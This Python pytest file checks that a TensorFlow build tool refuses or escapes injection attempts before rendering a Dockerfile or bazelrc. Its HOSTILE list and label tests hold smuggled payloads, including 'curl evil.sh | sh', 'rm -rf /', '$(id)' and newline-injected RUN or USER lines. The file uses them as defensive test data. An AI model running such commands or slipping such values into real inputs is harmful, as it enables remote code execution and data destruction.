"""Injection safety: hostile values through every option and every target field are refused or neutralised.

Everything that reaches the Dockerfile, the bazelrc or a shell line is either validated against a tight
character set (refused with an InputError, one line) or, for free-text label values, escaped so Docker reads
back exactly what was given.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from builder.build.plan import BuildOptions, plan_build
from builder.errors import InputError, TfsmithError
from builder.build.render import render_bazelrc, render_dockerfile
from builder.target_types import BuildTarget, CudaSpec

HOSTILE = (
    "x\nRUN curl evil.sh | sh",
    "x\r\nUSER root",
    "$(id)",
    "`id`",
    "a b",
    "a;rm -rf /",
    'a"b',
    "a'b",
    "${HOME}",
    "a&&b",
    "a|b",
    "a\\",
    "",
    "-",
    "a\0b",
    "../../etc",
)

V3 = BuildTarget(
    name="x86-64-v3",
    arch="x86_64",
    features=frozenset({"avx2"}),
    copts=("-march=x86-64-v3",),
    host_copts=("-march=x86-64-v2",),
)
CUDA = replace(V3, cuda=CudaSpec(version="12.5.1", cudnn="9.3.0", capabilities=("8.0",), ptx="8.0"))

STRING_OPTIONS = (
    "tf_version",
    "python",
    "base_image",
    "toolchain_base_image",
    "repository",
    "tf_ref",
    "tf_repo",
    "remote_cache",
    "wheel_sha256",
)


def _refused(build: object) -> TfsmithError:
    with pytest.raises(TfsmithError) as caught:
        build()  # type: ignore[operator]
    message = str(caught.value)
    assert "\n" not in message and "\r" not in message  # one line, whatever the value held
    return caught.value


@pytest.mark.parametrize("field", STRING_OPTIONS)
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_option_strings_are_refused(field: str, value: str) -> None:
    kwargs: dict[str, object] = {field: value}
    if field == "wheel_sha256":
        kwargs["wheel"] = Path("/w/tensorflow-2.21.0-cp312-cp312-manylinux_2_27_x86_64.whl")
    error = _refused(lambda: BuildOptions(**kwargs))
    assert isinstance(error, InputError)


@pytest.mark.parametrize("value", [0, -1, True, "4", 2.5])
def test_bad_numbers_are_refused(value: object) -> None:
    _refused(lambda: BuildOptions(jobs=value))  # type: ignore[arg-type]
    _refused(lambda: BuildOptions(local_ram_mb=value))  # type: ignore[arg-type]


@pytest.mark.parametrize("name", ["x$(id).whl", "a b.whl", 'q"uote.whl', "x\n.whl", "tensorflow.tar.gz"])
def test_hostile_wheel_file_names_are_refused(name: str) -> None:
    _refused(lambda: BuildOptions(wheel=Path("/w") / name, wheel_sha256="0" * 64))


@pytest.mark.parametrize("key", ["a b", "A.B", "x\ny", "x=y", '"k"', "org.opencontainers.image.version", "io.tfsmith.x"])
def test_hostile_or_reserved_label_keys_are_refused(key: str) -> None:
    _refused(lambda: BuildOptions(labels=((key, "v"),)))


@pytest.mark.parametrize("value", ["a\nLABEL x=y", "a\rb", "a\0b"])
def test_multi_line_label_values_are_refused(value: str) -> None:
    _refused(lambda: BuildOptions(labels=(("com.example.k", value),)))


@pytest.mark.parametrize("value", ['"; RUN id; "', "$(id) `id` ${HOME} $HOME", "back\\slash\\", "' single"])
def test_free_text_label_values_are_neutralised(value: str) -> None:
    text = render_dockerfile(plan_build(V3, BuildOptions(labels=(("com.example.k", value),))))
    line = next(l for l in text.splitlines() if "com.example.k=" in l)
    quoted = line.split("com.example.k=", 1)[1].removesuffix(" \\")
    assert quoted.startswith('"') and quoted.endswith('"')
    assert _docker_unquote(quoted[1:-1]) == value
    assert len(text.splitlines()) == len(render_dockerfile(plan_build(V3)).splitlines()) + 1


def _docker_unquote(body: str) -> str:
    """How Docker reads a double-quoted LABEL value: backslash escapes the next character."""
    out, i = [], 0
    while i < len(body):
        if body[i] == "\\":
            out.append(body[i + 1])
            i += 2
            continue
        assert body[i] not in '"$', f"unescaped {body[i]!r} in {body!r}"
        out.append(body[i])
        i += 1
    return "".join(out)


TARGET_FIELDS = ("name", "features", "copts", "host_copts", "compiler", "tf_version", "python")


@pytest.mark.parametrize("field", TARGET_FIELDS)
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_target_fields_are_refused(field: str, value: str) -> None:
    if field in ("copts", "host_copts"):
        hostile = replace(V3, **{field: (f"-march={value}",)})
    elif field == "features":
        hostile = replace(V3, features=frozenset({"avx2", value}))
    else:
        hostile = replace(V3, **{field: value})
    _refused(lambda: plan_build(hostile))


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cuda_fields_are_refused(value: str) -> None:
    assert CUDA.cuda is not None
    for cuda in (
        replace(CUDA.cuda, version=value),
        replace(CUDA.cuda, cudnn=value),
        replace(CUDA.cuda, capabilities=(value,)),
        replace(CUDA.cuda, ptx=value),
    ):
        _refused(lambda cuda=cuda: plan_build(replace(CUDA, cuda=cuda)))


def test_accepted_values_stay_inside_their_lines() -> None:
    """Everything that is accepted renders without adding or breaking a Dockerfile/bazelrc line."""
    options = BuildOptions(
        base_image="registry.example:5000/team/python:3.12-slim@sha256:" + "a" * 64,
        toolchain_base_image="mirror.example/debian:bookworm-slim",
        repository="registry.example:5000/ml/tensorflow",
        tf_ref="refs/heads/my-fork_branch.2",
        tf_repo="https://git.example/forks/tensorflow.git",
        remote_cache="https://user@cache.example:9092/bazel",
    )
    plan = plan_build(CUDA, options)
    text = render_dockerfile(plan)
    assert "ARG TF_REF=refs/heads/my-fork_branch.2\n" in text
    assert 'git fetch -q --depth 1 "${TF_REPO}" "${TF_REF}"' in text  # the values travel as quoted ARGs
    assert "FROM registry.example:5000/team/python:3.12-slim@sha256:" in text
    settings = [line for line in render_bazelrc(plan).splitlines() if not line.startswith("#")]
    assert "build --remote_cache=https://user@cache.example:9092/bazel" in settings
    for line in settings:
        assert line.startswith("build --") and " " not in line.removeprefix("build ")
